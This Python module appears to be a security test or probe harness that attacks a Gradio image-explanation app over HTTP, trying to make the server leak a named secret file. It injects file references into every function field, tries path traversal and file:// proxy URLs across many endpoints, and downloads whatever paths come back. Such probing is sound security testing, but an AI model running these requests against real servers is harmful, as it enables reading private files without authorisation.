"""An attack on the app over HTTP: files of the server are named wherever a client may send something.

Gradio copies a file that a call names to a folder from which it can be downloaded, unless it was told to look whether a
user has uploaded it. The attack names files in every field of every function, at every address that takes calls, and
then asks for whatever path comes back; it also asks for the files themselves in every way that Gradio serves any.
"""

import contextlib
import json
import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import httpx

SESSION = "attack12345"
FORM = ("torchvision:squeezenet1_1=random", "relax", "", "", "fast", 20, 2, 0, 2, 64, 0)
"""What the page sends when Explain is pressed."""
SHORT = ("relax", "", "fast")
"""And when a method is chosen."""
FUNCTIONS = ((0, (None,)), (1, ()), (2, SHORT), (3, FORM), (4, ()), (5, ()), (6, ()))
CALLED_AT = ("run/predict", "api/predict", "queue/join", "call/predict", "call/v2/predict")
SERVED_AT = ("gradio_api/file=", "file=", "gradio_api/file/", "gradio_api/stream/", "static/", "assets/", "results/")


def opened(address: str) -> httpx.Client:
    """A client that has loaded the page, as a browser does."""
    client = httpx.Client(
        base_url=address.partition("?")[0], timeout=20, follow_redirects=True, headers={"Connection": "close"}
    )
    client.get(address)
    with contextlib.suppress(httpx.TimeoutException), client.stream("GET", f"gradio_api/heartbeat/{SESSION}"):
        pass
    return client


def uploaded(client: httpx.Client, photo: Path) -> None:
    """Upload a photo in either way that the app has had, and hand it over to the page."""
    with photo.open("rb") as file:
        client.post("gradio_api/upload", files={"files": (photo.name, file, "image/jpeg")})
    sent = client.post(
        "photo",
        params={"name": photo.name},
        content=photo.read_bytes(),
        headers={"Content-Type": "application/octet-stream"},
    )
    call(client, "run/predict", 0, [], {"upload": sent.text})


def call(client: httpx.Client, at: str, number: int, data: object, event: object = None) -> str:
    """Call a function of the page; whatever the server says to it, news of the session included."""
    body = {"data": data, "event_data": event, "fn_index": number, "session_hash": SESSION, "trigger_id": None}
    said = client.post(f"gradio_api/{at}", json=body).text
    if "event_id" in said and not said.startswith("<"):
        with contextlib.suppress(httpx.TimeoutException, json.JSONDecodeError):
            said += client.get("gradio_api/queue/data", params={"session_hash": SESSION}, timeout=3).text
    return said


def named(path: Path | str) -> list[object]:
    """The ways to name a file in a call."""
    meta = {"_type": "gradio.FileData"}
    return [
        {"path": str(path), "meta": meta},
        {"path": str(path), "url": f"file://{path}", "meta": meta, "is_stream": True},
    ]


def attempts(client: httpx.Client, secret: Path) -> Iterator[tuple[str, str]]:
    """Every attempt in turn: what was tried, and all that came back."""
    for at in CALLED_AT:
        for number, form in FUNCTIONS:
            for place in range(max(1, len(form))):
                data = list(form) or [None]
                for name in named(secret)[: 1 if place else 2]:
                    data[place] = name
                    yield f"{at} function {number} field {place}", fetched(client, call(client, at, number, data))
    for number, _ in FUNCTIONS:
        for name in named(secret):
            yield (
                f"event of function {number}",
                fetched(client, call(client, "run/predict", number, [], {"upload": name})),
            )
    for server in SERVED_AT:
        for path in (str(secret), str(secret).lstrip("/"), "../" * 12 + str(secret)[1:], quote(str(secret), safe="")):
            yield f"{server}{path}", client.get(server + path).text
    for address in (
        f"proxy=file://{secret}",
        f"gradio_api/proxy=file://{secret}",
        f"gradio_api/deep_link?session_hash={secret}",
    ):
        yield address, client.get(address).text


def fetched(client: httpx.Client, said: str) -> str:
    """What the server says to a call, and the contents of every file that it names in that."""
    paths = {path.encode().decode("unicode_escape") for path in re.findall(r'"path"\s*:\s*"([^"]+)"', said)}
    paths |= set(re.findall(r"/[^\s\"'<>&\\]*/[0-9a-f]{64}/[^\s\"'<>&\\]+", said))
    return said + "".join(client.get(f"gradio_api/file={path}").text for path in sorted(paths))
